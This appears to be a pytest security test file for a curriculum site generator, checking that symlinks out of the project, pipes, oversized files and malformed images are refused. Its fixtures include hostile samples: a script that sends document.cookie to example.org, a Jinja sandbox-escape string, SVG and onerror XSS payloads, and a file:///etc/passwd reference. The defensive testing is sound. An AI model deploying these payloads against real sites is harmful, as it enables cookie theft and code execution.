"""Files are read only where they may be, and images are images.

Each class of hostile file, tried as an attacker would: a link out of the project or the
overlay (content, templates, assets, catalogs, images), a folder that is not an overlay, a
device or a pipe, a file too large to read, an image that is not one. `check` and `build`
report the same problems at the same place, exit 1, and nothing from outside the project
reaches the site.
"""

from __future__ import annotations

import os
import shutil
from pathlib import Path

import pytest
from PIL import Image
from pypdf import PdfReader

from conftest import sample

SECRET = "NOT-FOR-THE-SITE"


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    """A file outside the project that must never be published."""
    path = tmp_path / "outside" / "secret.txt"
    path.parent.mkdir()
    path.write_text(SECRET + "\n")
    return path


def _overlay(tmp_path: Path) -> Path:
    """An overlay folder as `curriculum overlay init` starts one (content/ and templates/)."""
    folder = tmp_path / "overlay"
    (folder / "content").mkdir(parents=True)
    (folder / "templates" / "site" / "assets" / "images").mkdir(parents=True)
    return folder


def _agrees(cli, project: Path, *args: str) -> str:
    """`check` and `build` both refuse, with the same messages; returns them."""
    checked = cli(project, "check", *args)
    built = cli(project, "build", *args)
    assert checked.exit_code == built.exit_code == 1
    assert checked.stderr == built.stderr
    assert not (project / "site").exists()
    return checked.stderr


def _published(project: Path) -> list[Path]:
    """Every built file that holds the secret."""
    return [path for path in (project / "site").rglob("*")
            if path.is_file() and SECRET.encode() in path.read_bytes()]


# --- links out of the project or overlay -------------------------------------------------


def test_links_out_of_an_overlay_are_refused_at_the_link(tmp_path, cli, secret):
    """An asset and a template include linked to a file of the machine: each refused at its
    link, naming where it points; nothing is built."""
    project = sample(tmp_path, "valid-minimal")
    overlay = _overlay(tmp_path)
    (overlay / "templates" / "site" / "assets" / "images" / "x.png").symlink_to(secret)
    (overlay / "templates" / "common").mkdir()
    (overlay / "templates" / "common" / "crisis-text.md.j2").symlink_to(secret)
    assert _agrees(cli, project, "--overlay", str(overlay)) == (
        f"{overlay}/templates/common/crisis-text.md.j2: file: is a link to {secret}, outside "
        "the overlay; copy the file into the overlay instead of linking to it\n"
        f"{overlay}/templates/site/assets/images/x.png: file: is a link to {secret}, outside "
        "the overlay; copy the file into the overlay instead of linking to it\n"
        "2 problems found; nothing was built.\n")


def test_a_linked_templates_folder_of_an_overlay_is_refused(tmp_path, cli):
    project = sample(tmp_path, "valid-minimal")
    overlay = tmp_path / "overlay"
    (overlay / "content").mkdir(parents=True)
    elsewhere = tmp_path / "elsewhere"
    shutil.copytree(project / "templates", elsewhere)
    (overlay / "templates").symlink_to(elsewhere)
    assert _agrees(cli, project, "--overlay", str(overlay)) == (
        f"{overlay}/templates: file: is a link to {elsewhere}, outside the overlay; copy the "
        "folder into the overlay instead of linking to it\n1 problem found; nothing was built.\n")


def test_content_and_catalogs_linked_out_of_the_project_are_refused(tmp_path, cli, secret):
    """A content file, a whole content folder and a catalog, each linked out: refused at the
    link (files under a linked folder are not read)."""
    project = sample(tmp_path, "valid-minimal")
    (project / "content" / "forms" / "passwords.yml").symlink_to(secret)
    outside = secret.parent / "chapters"
    outside.mkdir()
    (outside / "chapter.yml").write_text("id: chapter\n")
    (project / "content" / "chapters").symlink_to(outside)
    catalog = project / "locales" / "es" / "LC_MESSAGES" / "messages.po"
    catalog.parent.mkdir(parents=True)
    catalog.symlink_to(secret)
    assert _agrees(cli, project) == (
        f"content/chapters: file: is a link to {outside}, outside the project; copy the folder "
        "into the project instead of linking to it\n"
        f"content/forms/passwords.yml: file: is a link to {secret}, outside the project; copy "
        "the file into the project instead of linking to it\n"
        f"locales/es/LC_MESSAGES/messages.po: file: is a link to {secret}, outside the "
        "project; copy the file into the project instead of linking to it\n"
        "3 problems found; nothing was built.\n")


def test_a_lessons_folder_linked_to_the_root_is_refused(tmp_path, cli):
    project = sample(tmp_path, "valid-minimal")
    lessons = project / "content" / "lessons"
    shutil.rmtree(lessons)
    lessons.symlink_to("/")
    result = cli(project, "check")
    assert result.exit_code == 1
    assert result.stderr.startswith(
        "content/lessons: file: is a link to /, outside the project; copy the folder into the "
        "project instead of linking to it\n")


def test_a_link_that_stays_inside_is_followed(tmp_path, cli):
    """A link to another file of the project is fine: the asset it points to is published."""
    project = sample(tmp_path, "valid-minimal")
    overlay = _overlay(tmp_path)
    style = overlay / "agency.css"
    style.write_text(".md-header { background: teal }\n")
    (overlay / "templates" / "site" / "assets" / "images" / "agency.css").symlink_to(style)
    assert cli(project, "check", "--overlay", str(overlay)).exit_code == 0


def test_the_template_loader_refuses_a_link_out_without_a_traceback(tmp_path, secret):
    """The build's second line: even without `check`, Jinja never reads a template that
    leads out of its project or overlay folder."""
    from generator.builders.templating import Templates
    from generator.core.language import ENGLISH

    folder = tmp_path / "layer" / "templates" / "site"
    folder.mkdir(parents=True)
    (folder / "page.md.j2").write_text("{% include 'leak.md.j2' %}")
    (folder / "leak.md.j2").symlink_to(secret)
    env = Templates([folder], str, ENGLISH)
    assert env.page("page.md.j2", {}) == ""
    assert [str(problem) for problem in env.problems] == [
        f"{folder}/leak.md.j2: file: is a link to {secret}, outside the project or overlay "
        "folder it is in; copy the file in instead of linking to it"]


def test_copying_assets_never_follows_a_link_out(tmp_path, secret):
    """The build's second line: assets are copied file by file, never through a link out."""
    from generator.core.content import load_catalog
    from generator.core.errors import ContentError
    from generator.core.project import Project
    from generator.builders.site import copy_assets


    project = Project(sample(tmp_path, "valid-minimal"))
    assets = project.root / "templates" / "site" / "assets"
    (assets / "images").mkdir()
    (assets / "images" / "x.png").symlink_to(secret)
    catalog = load_catalog(Project(sample(tmp_path / "unlinked", "valid-minimal")))
    docs = tmp_path / "docs"
    with pytest.raises(ContentError) as refused:
        copy_assets(project, catalog, docs)
    assert [problem.path for problem in refused.value.problems] == [
        "templates/site/assets/images/x.png"]
    assert not (docs / "assets" / "images" / "x.png").exists()
    assert (docs / "assets" / "stylesheets").is_dir()


# --- what an overlay is --------------------------------------------------------------------


@pytest.mark.parametrize("folder, message", [
    ("/etc", "/etc does not look like an overlay: an overlay holds content/ (its agency.yml, "
             "lessons, forms), templates/ or locales/, as `curriculum overlay init DIR` makes"),
    (".", ". is the project itself or holds it; an overlay is a folder of its own "
          "(`curriculum overlay init DIR` starts one)"),
])
def test_only_an_overlay_is_taken_for_an_overlay(tmp_path, cli, folder, message):
    project = sample(tmp_path, "valid-minimal")
    for command in ("check", "build"):
        result = cli(project, command, "--overlay", folder)
        assert result.exit_code == 2
        assert f"Error: Invalid value for '--overlay': {message}\n" in result.stderr
    assert not (project / "site").exists()


# --- devices, pipes and sizes ---------------------------------------------------------------


def test_pipes_and_devices_are_refused_unread(tmp_path, cli):
    """A named pipe among the lessons (reading it would block) and a device as a logo."""
    project = sample(tmp_path, "valid-minimal")
    os.mkfifo(project / "content" / "lessons" / "pipe.yml")
    os.mkfifo(project / "logo.png")
    agency = project / "content" / "agency.yml"
    agency.write_text(agency.read_text() + "logo: logo.png\nlogo_alt: Logo\n")
    assert _agrees(cli, project) == (
        "content/agency.yml:20: logo: the image 'logo.png' cannot be used: this is a named "
        "pipe, not an ordinary file; images must be ordinary files\n"
        "content/lessons/pipe.yml:1: file: this is a named pipe, not an ordinary file; content "
        "files must be ordinary files\n"
        "2 problems found; nothing was built.\n")


@pytest.mark.parametrize("name", ["/dev/zero", "pipe.yml", "huge.yml"])
def test_a_report_file_is_checked_before_it_is_read(tmp_path, cli, name):
    """`curriculum report /dev/zero` read forever; a pipe blocked; a huge file filled the
    memory. Each is refused before a byte is read."""
    project = sample(tmp_path, "valid-minimal")
    path = Path(name) if name.startswith("/") else tmp_path / name
    if name == "pipe.yml":
        os.mkfifo(path)
    elif name == "huge.yml":
        with path.open("wb") as handle:
            handle.truncate(2_000_000_000)  # sparse: nothing is written
    result = cli(project, "report", str(path))
    assert result.exit_code == 1
    expected = {"/dev/zero": "this is a device, not an ordinary file; outcomes files must be "
                             "ordinary files",
                "pipe.yml": "this is a named pipe, not an ordinary file; outcomes files must "
                            "be ordinary files",
                "huge.yml": "the file is 2,000,000,000 bytes; outcomes files may be at most "
                            "1,000,000 bytes. Split it or remove pasted material"}[name]
    assert result.stderr == (f"{path}:1: file: {expected}\n"
                             "1 problem found; no report was written.\n")


def test_an_oversized_catalog_is_refused_before_it_is_read(tmp_path, cli):
    project = sample(tmp_path, "valid-minimal")
    catalog = project / "locales" / "es" / "LC_MESSAGES" / "messages.po"
    catalog.parent.mkdir(parents=True)
    with catalog.open("wb") as handle:
        handle.truncate(50_000_000)
    assert _agrees(cli, project) == (
        "locales/es/LC_MESSAGES/messages.po: file: the file is 50,000,000 bytes; translation "
        "catalogs may be at most 10,000,000 bytes\n1 problem found; nothing was built.\n")


# --- images are images ----------------------------------------------------------------------


def _zeros(path: Path) -> None:
    with path.open("wb") as handle:
        handle.truncate(2_000_000_000)  # sparse: two gigabytes of zeros, nothing written


def _huge(path: Path) -> None:
    Image.new("1", (30000, 30000), 1).save(path)  # 900 megapixels in about 100 kB


def _noise(path: Path) -> None:
    Image.effect_noise((64, 64), 40).save(path, format="PNG")


SVG = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 8 8">{}</svg>'

LOGOS = {
    "zeros.png": (_zeros, "the file is 2,000,000,000 bytes; images may be at most 10,000,000 "
                          "bytes: save it smaller (a logo needs a few hundred pixels)"),
    "huge.png": (_huge, "the image is 900,000,000 pixels; images may have at most 40 "
                        "megapixels: scale it down"),
    "logo.png": (lambda path: path.write_bytes(b"\0" * 1000),
                 "its content is not an image (PNG, JPEG, GIF, WebP or SVG), whatever its name "
                 "says"),
    "logo.jpg": (_noise, "it holds a PNG image, but its name ends in '.jpg'; rename it to end "
                         "in .png"),
    "logo.html": (_noise, "it holds a PNG image, but its name ends in '.html'; rename it to "
                          "end in .png"),
    "folder.png": (lambda path: path.mkdir(),
                   "this is a folder, not an ordinary file; images must be ordinary files"),
    "script.svg": (lambda path: path.write_text(SVG.format("<script>alert(1)</script>")),
                   "it is an SVG image with a <script> element; an image may not run script or "
                   "load anything: export it again as plain SVG"),
    "fetch.svg": (lambda path: path.write_text(SVG.format(
        '<image href="file:///etc/passwd" width="8" height="8"/>')),
        "it is an SVG image with a link to 'file:///etc/passwd'; an image may not run script "
        "or load anything: export it again as plain SVG"),
    "entity.svg": (lambda path: path.write_text(
        '<!DOCTYPE svg [<!ENTITY a "a">]>' + SVG.format("<text>&a;</text>")),
        "it is an SVG image with a DOCTYPE, which images may not hold: export it again as "
        "plain SVG"),
}


@pytest.mark.parametrize("name", sorted(LOGOS))
def test_a_logo_that_is_not_a_printable_image_is_refused(tmp_path, cli, name):
    """A logo is read for what it holds: checked at its setting's line, never copied or
    silently left off the PDFs."""
    make, message = LOGOS[name]
    project = sample(tmp_path, "valid-minimal")
    make(project / name)
    agency = project / "content" / "agency.yml"
    agency.write_text(agency.read_text() + f"logo: {name}\nlogo_alt: Our logo\n")
    result = cli(project, "check")
    assert result.exit_code == 1
    assert result.stderr == (f"content/agency.yml:20: logo: the image '{name}' cannot be "
                             f"used: {message}\n1 problem found; nothing was built.\n")


def test_a_plain_svg_logo_is_an_image(tmp_path, cli):
    """The worked example's kind of logo: vector shapes and a gradient of its own."""
    project = sample(tmp_path, "valid-minimal")
    (project / "logo.svg").write_text(SVG.format(
        '<defs><linearGradient id="g"><stop offset="0" stop-color="teal"/></linearGradient>'
        '</defs><rect fill="url(#g)" width="8" height="8"/>'))
    agency = project / "content" / "agency.yml"
    agency.write_text(agency.read_text() + "logo: logo.svg\nlogo_alt: Our logo\n")
    assert cli(project, "check").exit_code == 0


def test_content_images_are_checked_at_their_line(tmp_path, cli, secret):
    """An image in a lesson linked out of the project, and one that is not an image."""
    project = sample(tmp_path, "valid-lesson-image")
    (project / "assets").mkdir()
    (project / "assets" / "talking.png").symlink_to(secret)
    result = cli(project, "check")
    assert result.exit_code == 1
    assert result.stderr == (
        "content/lessons/sample-lesson.yml:127: handout.body: the image 'assets/talking.png' "
        f"leads out of the project: assets/talking.png is a link to {secret}, outside the "
        "project; copy the file into the project instead of linking to it\n"
        "1 problem found; nothing was built.\n")
    (project / "assets" / "talking.png").unlink()
    (project / "assets" / "talking.png").write_text("<script>alert(1)</script>")
    result = cli(project, "check")
    assert result.stderr.startswith(
        "content/lessons/sample-lesson.yml:127: handout.body: the image 'assets/talking.png' "
        "cannot be used: its content is not an image (PNG, JPEG, GIF, WebP or SVG), whatever "
        "its name says\n")


def test_an_image_in_a_lesson_shows_on_its_pages_and_in_its_handout(tmp_path, cli, warm):
    """The README's own example: `check` and `build` agree, the site's lesson pages show the
    image (copied beside them) and the handout prints it."""
    project = warm(sample(tmp_path, "valid-lesson-image"))
    (project / "assets").mkdir()
    Image.new("RGB", (240, 120), (30, 120, 60)).save(project / "assets" / "talking.png")
    assert cli(project, "check").exit_code == 0
    result = cli(project, "build")
    assert result.exit_code == 0, result.stderr
    site = project / "site"
    for audience in ("participants", "coaches"):
        page = (site / audience / "lessons" / "sample-lesson.html").read_text()
        assert '<img alt="Two members talking" src="assets/talking.png" />' in page
        copied = site / audience / "lessons" / "assets" / "talking.png"
        assert copied.read_bytes() == (project / "assets" / "talking.png").read_bytes()
    handout = PdfReader(site / "downloads" / "handouts" / "sample-lesson.pdf")
    assert any("/XObject" in page["/Resources"] for page in handout.pages)
    assert not _published(project)


def test_an_image_the_pdf_cannot_print_fails_the_pdf(tmp_path):
    """The print's second line: WeasyPrint leaves out an image it cannot read and only logs
    it; here that fails the PDF with a message."""
    from generator.builders.pdf import _write_one
    from generator.core.project import Project

    project = Project(tmp_path)
    (tmp_path / "bad.png").write_bytes(b"\0" * 100)
    html = '<html><body><img src="bad.png" alt="bad"></body></html>'
    problem = _write_one((html, str(tmp_path / "x.pdf"), "x.pdf", project,
                          str(tmp_path / "x.json"), "print"))
    assert problem is not None
    assert str(problem).startswith("downloads/x.pdf: pdf: an image could not be printed "
                                   "(Failed to load image at ")
    assert not (tmp_path / "x.pdf").exists()


def test_the_pdf_fetcher_reads_no_pipe_and_nothing_through_a_link_out(tmp_path, secret):
    from weasyprint.urls import FatalURLFetchingError

    from generator.builders.pdf import confined_fetcher
    from generator.core.project import Project

    root = tmp_path / "project"
    root.mkdir()
    os.mkfifo(root / "pipe.png")
    (root / "link.png").symlink_to(secret)
    fetcher = confined_fetcher(Project(root))
    with pytest.raises(FatalURLFetchingError, match="a named pipe, not an ordinary file"):
        fetcher.fetch((root / "pipe.png").as_uri())
    with pytest.raises(FatalURLFetchingError, match=f"refused to read {secret}: outside"):
        fetcher.fetch((root / "link.png").as_uri())


def test_overlay_copy_writes_nothing_through_a_link_out(tmp_path, cli, secret):
    """`overlay copy` neither reads a record linked out of the overlay nor writes into a
    folder linked out of it (as root, it would write over the file the link names)."""
    project = sample(tmp_path, "valid-minimal")
    overlay = _overlay(tmp_path)
    (overlay / "upstream.yml").symlink_to(secret)
    result = cli(project, "overlay", "copy", "lesson", "sample-lesson", "--overlay", str(overlay))
    assert result.exit_code == 2
    assert result.stderr.endswith(
        f"Error: {overlay}/upstream.yml: file: is a link to {secret}, outside the overlay; "
        "copy the file into the overlay instead of linking to it\n")
    (overlay / "upstream.yml").unlink()
    (overlay / "content" / "lessons").symlink_to(secret.parent)
    result = cli(project, "overlay", "copy", "lesson", "sample-lesson", "--overlay", str(overlay))
    assert result.exit_code == 2
    assert sorted(path.name for path in secret.parent.iterdir()) == ["secret.txt"]
    assert secret.read_text() == SECRET + "\n"


def test_an_overlay_template_cannot_reach_python(tmp_path, cli):
    """An overlay's template shapes pages but runs in Jinja's sandbox: reaching for Python's
    internals (to read or run anything on the machine) is refused at its line by `check`
    and `build` alike."""
    project = sample(tmp_path, "valid-minimal")
    overlay = _overlay(tmp_path)
    common = overlay / "templates" / "common"
    common.mkdir()
    crisis = (project / "templates" / "common" / "crisis-text.md.j2").read_text(encoding="utf-8")
    (common / "crisis-text.md.j2").write_text(
        "{{ ''.__class__.__mro__[1].__subclasses__() }}\n" + crisis, encoding="utf-8")
    found = _agrees(cli, project, "--overlay", str(overlay))
    assert (f"{overlay}/templates/common/crisis-text.md.j2:1: template: access to attribute "
            "'__class__' of 'str' object is unsafe. (fix the template)") in found
    assert "Traceback" not in found


def test_an_overlay_brings_no_script_among_its_assets(tmp_path, cli):
    """An overlay restyles the site; a script among its assets (one replacing the run
    sheet's, say) is refused by `check` and `build` alike, at the file."""
    project = sample(tmp_path, "valid-minimal")
    overlay = _overlay(tmp_path)
    scripts = overlay / "templates" / "site" / "assets" / "javascripts"
    scripts.mkdir()
    (scripts / "runsheet.js").write_text("fetch('https://example.org/?' + document.cookie)")
    assert _agrees(cli, project, "--overlay", str(overlay)) == (
        f"{scripts}/runsheet.js: file: an overlay's site assets may be stylesheets, images "
        "and fonts, not scripts or pages (they would run for every reader of the site): "
        "remove it\n1 problem found; nothing was built.\n")


def test_no_template_puts_a_script_on_a_page(tmp_path, cli):
    """Every generated page is looked over before anything is written: an event attribute
    that an overlay's template writes is refused at the pages it would reach."""
    project = sample(tmp_path, "valid-minimal")
    overlay = _overlay(tmp_path)
    home = (project / "templates" / "site" / "home.md.j2").read_text(encoding="utf-8")
    (overlay / "templates" / "site" / "home.md.j2").write_text(
        home + '\n<img src="logo.png" onerror="alert(1)">\n', encoding="utf-8")
    found = _agrees(cli, project, "--overlay", str(overlay))
    assert ("index.md: page: this page would carry the event attribute 'onerror', which no "
            "page may (a template puts it there, an overlay's perhaps): pages may not run "
            "scripts; remove it from the template") in found
